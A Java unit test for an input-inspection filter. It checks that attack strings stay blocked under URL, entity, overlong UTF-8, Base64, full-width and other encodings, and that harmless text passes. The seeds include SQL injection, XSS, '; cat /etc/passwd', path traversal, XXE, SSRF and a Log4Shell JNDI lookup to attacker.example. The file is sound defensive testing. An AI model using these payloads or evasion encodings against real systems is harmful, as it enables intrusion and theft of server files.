package dev.rampart.domain.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What is refused in the clear stays refused behind every encoding, alone and in pairs. */
final class EvasionsTest {

  private static final String[] SEEDS = {
    "1' OR '1'='1' --",
    "1 UNION ALL SELECT NULL,version()--",
    "\"><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "; cat /etc/passwd",
    "../../../etc/passwd",
    "{\"$ne\": null}",
    "*)(uid=*))(|(uid=*",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/a}",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "http://127.0.0.1:8080/admin",
  };

  private record Disguise(String name, UnaryOperator<String> apply) {
    @Override
    public String toString() {
      return name;
    }
  }

  private static final List<Disguise> DISGUISES =
      List.of(
          new Disguise("PLAIN", text -> text),
          new Disguise("URL", EvasionsTest::percent),
          new Disguise("URL_TWICE", text -> percent(percent(text))),
          new Disguise("URL_UNICODE", text -> eachMark(text, "%%u%04X")),
          new Disguise("OVERLONG", text -> eachMark(text, "%%C0%%%02X", 0x80)),
          new Disguise("ENTITY", text -> eachMark(text, "&#%d;")),
          new Disguise("ENTITY_HEX", text -> eachMark(text, "&#x%x;")),
          new Disguise("JSON", text -> eachMark(text, "\\u%04x")),
          new Disguise("JAVASCRIPT", text -> eachMark(text, "\\x%02x")),
          new Disguise(
              "FULL_WIDTH",
              text ->
                  text.chars()
                      .mapToObj(
                          c -> c > ' ' && c < 0x7f ? Character.toString(c + 0xfee0) : "" + (char) c)
                      .collect(Collectors.joining())),
          new Disguise(
              "BASE64",
              text -> Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8))),
          new Disguise("NULLS", text -> text.substring(0, 1) + "\0" + text.substring(1)),
          new Disguise("UPPER", text -> text.toUpperCase(Locale.ROOT)),
          new Disguise("BEHIND_PROSE", text -> "Lorem ipsum dolor sit amet. ".repeat(300) + text),
          new Disguise("BEFORE_PROSE", text -> text + " Lorem ipsum dolor sit amet.".repeat(300)));

  private static String eachMark(String text, String format) {
    return eachMark(text, format, 0);
  }

  private static String eachMark(String text, String format, int add) {
    return text.chars()
        .mapToObj(c -> stays(c, format) ? Character.toString(c) : overlongOr(format, add, c))
        .collect(Collectors.joining());
  }

  /** Letters and digits stay, and what two hexadecimal digits cannot write. */
  private static boolean stays(int c, String format) {
    return Character.isLetterOrDigit(c) || (c > 0xff && format.contains("%02"));
  }

  /** As a browser does it: every byte of a mark in UTF-8. */
  private static String percent(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
      out.append(
          Character.isLetterOrDigit(b) ? "" + (char) b : String.format(Locale.ROOT, "%%%02X", b));
    }
    return out.toString();
  }

  private static String overlongOr(String format, int add, int c) {
    String lead = add == 0 || c < 0x40 ? format : format.replace("C0", "C1");
    return String.format(Locale.ROOT, lead, add == 0 ? c : add + (c & 0x3f));
  }

  static Stream<Arguments> disguises() {
    return DISGUISES.stream().flatMap(d -> Stream.of(SEEDS).map(seed -> Arguments.of(d, seed)));
  }

  @ParameterizedTest
  @MethodSource("disguises")
  void an_attack_stays_refused_in(Disguise disguise, String seed) {
    assertThat(Inspected.isRefused(disguise.apply().apply(seed))).isTrue();
  }

  /** Of two, neither Base64: only a whole value is read in it. */
  static Stream<Arguments> pairs() {
    List<Disguise> singles = DISGUISES.stream().filter(d -> !d.name().equals("BASE64")).toList();
    return singles.stream()
        .flatMap(first -> singles.stream().map(second -> Arguments.of(first, second)));
  }

  @ParameterizedTest
  @MethodSource("pairs")
  void an_attack_stays_refused_in_two_at_once(Disguise first, Disguise second) {
    assertThat(SEEDS)
        .allMatch(seed -> Inspected.isRefused(second.apply().apply(first.apply().apply(seed))));
  }

  @ParameterizedTest
  @MethodSource("honestDisguises")
  void honest_text_stays_accepted_in(Disguise disguise) {
    String value = disguise.apply().apply("We meet at noon, by the old mill (north gate).");
    assertThat(Inspected.isRefused(value)).isFalse();
  }

  static List<Disguise> honestDisguises() {
    return DISGUISES;
  }
}
